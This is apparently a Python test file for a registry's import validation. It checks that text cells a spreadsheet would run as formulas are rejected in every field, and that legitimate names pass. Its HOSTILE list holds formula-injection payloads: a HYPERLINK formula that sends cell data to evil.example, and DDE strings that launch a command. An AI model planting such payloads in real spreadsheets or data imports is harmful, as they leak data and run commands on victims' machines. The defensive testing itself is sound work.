"""Spreadsheet-safe intake (issue 14, item 14): no text cell of any import that a spreadsheet would
run as a formula is stored, whichever kind of batch and whichever column it is in; the row and the
column are named, the value is never repeated; legitimate names and numbers pass."""

from __future__ import annotations

import dataclasses
import datetime as dt
import random
from pathlib import Path

import pytest

from registry.calendar import clock
from registry.catalogue import reference_data as catalogue
from registry.certificates.validation import BatchInput, ResultInput, check_batch
from registry.institutions import directory
from registry.problems import Problem
from registry.storage.db import Database
from registry.training.validation import CohortInput, TraineeInput, check_cohort
from tests.factories import listed_institution, make_id_number, make_uscc

EVALUATOR = make_uscc(1401)
TRAINER = make_uscc(1402)
RNG = random.Random(1401)
ID_NUMBER = make_id_number(RNG)
TODAY = clock.today()
# Each start a spreadsheet reads as a formula, and the same hidden behind what the registry
# strips or normalises before storing (a leading space, a full-width equals sign).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"张三")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tplain",
    "  =1+1",
    "＝1+1",
]


def result(**changes: object) -> ResultInput:
    base = ResultInput(
        name="张三",
        id_number=ID_NUMBER,
        occupation="2-02-10-09",
        level=1,
        theory_score=80,
        skill_score=75,
    )
    return dataclasses.replace(base, **changes)


def trainee(**changes: object) -> TraineeInput:
    base = TraineeInput(
        name="李四",
        id_number=ID_NUMBER,
        hours_attended=64,
        attendance_rate=1,
        assessment_passed=True,
    )
    return dataclasses.replace(base, **changes)


def batch(results: list[ResultInput], **changes: object) -> BatchInput:
    base = BatchInput("formula-batch-01", TODAY - dt.timedelta(days=3), results)
    return dataclasses.replace(base, **changes)


def cohort(trainees: list[TraineeInput], **changes: object) -> CohortInput:
    end = TODAY - dt.timedelta(days=3)
    base = CohortInput(
        "formula-cohort-01", end - dt.timedelta(days=30), end, "2-02-10-09", 1, 64, trainees
    )
    return dataclasses.replace(base, **changes)


def api_name(field_name: str) -> str:
    head, *rest = field_name.split("_")
    return head + "".join(part.title() for part in rest)


def text_fields(kind: type) -> list[str]:
    """Every text field of an input dataclass, read from the class (a new column is included)."""
    return [f.name for f in dataclasses.fields(kind) if "str" in str(f.type)]


@pytest.fixture(scope="module")
async def listed(db: Database) -> None:
    await catalogue.seed_reference(db)
    await listed_institution(db, EVALUATOR, filed="2025-01-06")
    await listed_institution(db, TRAINER, filed="2025-01-06", kind="TRAINING")


def formula_problems(problems: list[Problem]) -> list[tuple[str | None, str]]:
    return [(p.field, p.message) for p in problems if p.code == "FORMULA_TEXT"]


@pytest.mark.parametrize("field_name", text_fields(ResultInput))
@pytest.mark.parametrize("value", HOSTILE)
async def test_every_text_cell_of_a_result_row_refuses_a_formula(
    db: Database, listed: None, field_name: str, value: str
) -> None:
    institution = await directory.get(db, EVALUATOR)
    rows_in = [result(), result(**{field_name: value})]
    _, problems, _ = await check_batch(db, institution, batch(rows_in))
    found = formula_problems(problems)
    assert [f for f, _ in found] == [f"results[1].{api_name(field_name)}"]
    message = found[0][1]
    assert message.startswith("row 2: ") and value.strip() not in message


@pytest.mark.parametrize("field_name", text_fields(TraineeInput))
@pytest.mark.parametrize("value", HOSTILE)
async def test_every_text_cell_of_a_trainee_row_refuses_a_formula(
    db: Database, listed: None, field_name: str, value: str
) -> None:
    institution = await directory.get(db, TRAINER)
    clean, problems, _ = await check_cohort(
        db, institution, cohort([trainee(**{field_name: value})])
    )
    assert clean is None
    assert [f for f, _ in formula_problems(problems)] == [f"trainees[0].{api_name(field_name)}"]


async def test_the_batch_and_cohort_level_text_refuses_a_formula(
    db: Database, listed: None
) -> None:
    evaluation = await directory.get(db, EVALUATOR)
    _, problems, _ = await check_batch(db, evaluation, batch([result()], late_reason="=1+1"))
    assert [f for f, _ in formula_problems(problems)] == ["lateReason"]
    training = await directory.get(db, TRAINER)
    _, problems, _ = await check_cohort(db, training, cohort([trainee()], direction="@x"))
    assert [f for f, _ in formula_problems(problems)] == ["direction"]


@pytest.mark.parametrize(
    "name", ["张三", "Anne-Marie O'Neil", "欧阳 娜娜", "李=明", "Zhang+Li", "王@", "·艾力"]
)
async def test_legitimate_names_pass(db: Database, listed: None, name: str) -> None:
    institution = await directory.get(db, EVALUATOR)
    clean, problems, _ = await check_batch(db, institution, batch([result(name=name)]))
    assert problems == [] and [c.name for c in clean] == [name]


async def test_a_negative_number_in_a_numeric_cell_is_a_bad_score_not_a_formula(
    db: Database, listed: None
) -> None:
    institution = await directory.get(db, EVALUATOR)
    _, problems, _ = await check_batch(db, institution, batch([result(theory_score=-5)]))
    assert [(p.field, p.code) for p in problems] == [("results[0].theoryScore", "INVALID_SCORE")]


def test_every_row_check_starts_at_the_one_rule() -> None:
    """No batch kind builds its row problems around `rows.start_row` (which checks the cells)."""
    root = Path(__file__).resolve().parents[3] / "registry"
    bypass = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "rows.py" and "RowProblems(" in path.read_text(encoding="utf-8")
    ]
    assert bypass == []
